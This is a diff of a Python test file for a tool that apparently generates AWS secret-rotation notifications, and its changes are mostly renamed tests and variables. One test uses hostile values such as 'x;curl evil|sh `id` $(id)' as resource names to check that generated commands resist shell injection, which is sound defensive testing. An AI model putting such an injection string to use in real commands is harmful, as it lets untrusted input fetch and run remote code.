@@ -1,4 +1,4 @@
-"""Every command in a message is one that the AWS CLI or our own has, with the options that it takes."""
+"""Every command in a notification exists in the AWS CLI or in rotation-guard's, with its options."""
 
 import json
 import re
@@ -62,8 +62,8 @@ def check(command):
     assert "\n" not in command
     if words[0] == "rotation-guard":
         group: Any = get_command(build_app())
-        known = group.commands[words[1]].commands[words[2]]
-        names = {name for parameter in known.params for name in parameter.opts} | {"--reason"}
+        subcommand = group.commands[words[1]].commands[words[2]]
+        names = {name for parameter in subcommand.params for name in parameter.opts} | {"--reason"}
         assert {word for word in words if word.startswith("--")} <= names, command
         return
     check_command(words)
@@ -73,9 +73,9 @@ def check(command):
 @pytest.mark.parametrize("name", ROWS)
 def test_commands_exist_with_their_options(name):
     for transition in (*TRANSITIONS, "held_burst"):
-        burst = rate_limited(25) if transition == "held_burst" else ()
+        digest = rate_limited(25) if transition == "held_burst" else ()
 
-        message = notification(transition, row(**ROWS[name]), digest=burst)
+        message = notification(transition, row(**ROWS[name]), digest=digest)
 
         assert message.payload["commands"] == [
             line.strip() for line in message.text.splitlines() if re.match(" +aws | +rotation-guard ", line)
@@ -84,15 +84,15 @@ def test_commands_exist_with_their_options(name):
             check(command)
 
 
-def test_the_check_knows_a_command_that_does_not_exist_and_an_option_that_is_misspelt():
-    for wrong in (
+def test_the_check_rejects_an_unknown_command_and_a_misspelt_option():
+    for invalid in (
         "aws secretsmanager rotate-secrets --secret-id x --region eu-west-1",
         "aws secretsmanager rotate-secret --secret x --region eu-west-1",
         "aws secretsmanager rotate-secret --region eu-west-1",
         "rotation-guard incidents show x --stack-output f",
     ):
         with pytest.raises(AssertionError):
-            check(wrong)
+            check(invalid)
 
 
 @pytest.mark.parametrize("hostile", ["x;curl evil|sh `id` $(id)", "it's", "--help", "a b", "*"])
@@ -108,7 +108,7 @@ def test_a_command_survives_a_name_that_a_shell_would_run(hostile):
             assert words[3] == (arn if hostile.startswith("-") else hostile)
 
 
-def test_ids_are_filled_in_as_far_as_they_are_known():
+def test_known_ids_are_filled_in():
     [move, *_] = notification("escalated", row(evidence={"current": "broken", "pending": "works"})).payload["commands"]
 
     assert shlex.split(move) == [
@@ -118,7 +118,7 @@ def test_ids_are_filled_in_as_far_as_they_are_known():
     ]
 
 
-def test_the_log_is_read_from_before_the_step_that_failed_could_have_begun():
+def test_the_log_is_read_from_before_the_failed_step_can_have_started():
     # 2026-03-01T00:50:20Z is 1772326220 in epoch seconds; a function runs for 15 minutes at most.
     [log] = [command for command in notification("opened", row()).payload["commands"] if " logs " in command]
 
@@ -127,8 +127,8 @@ def test_the_log_is_read_from_before_the_step_that_failed_could_have_begun():
 
 
 @pytest.mark.parametrize("qualifier", ["", ":live", ":7"])
-def test_the_log_group_is_that_of_the_function_whatever_its_alias(qualifier):
-    facts = notification("opened", row(rotation_function=f"{FUNCTION}{qualifier}")).payload
+def test_the_log_group_does_not_depend_on_the_alias_of_the_function(qualifier):
+    payload = notification("opened", row(rotation_function=f"{FUNCTION}{qualifier}")).payload
 
-    assert facts["log_group"] == "/aws/lambda/orders-rotation"
-    assert json.dumps(facts["commands"]).count("/aws/lambda/orders-rotation ") == 1
+    assert payload["log_group"] == "/aws/lambda/orders-rotation"
+    assert json.dumps(payload["commands"]).count("/aws/lambda/orders-rotation ") == 1
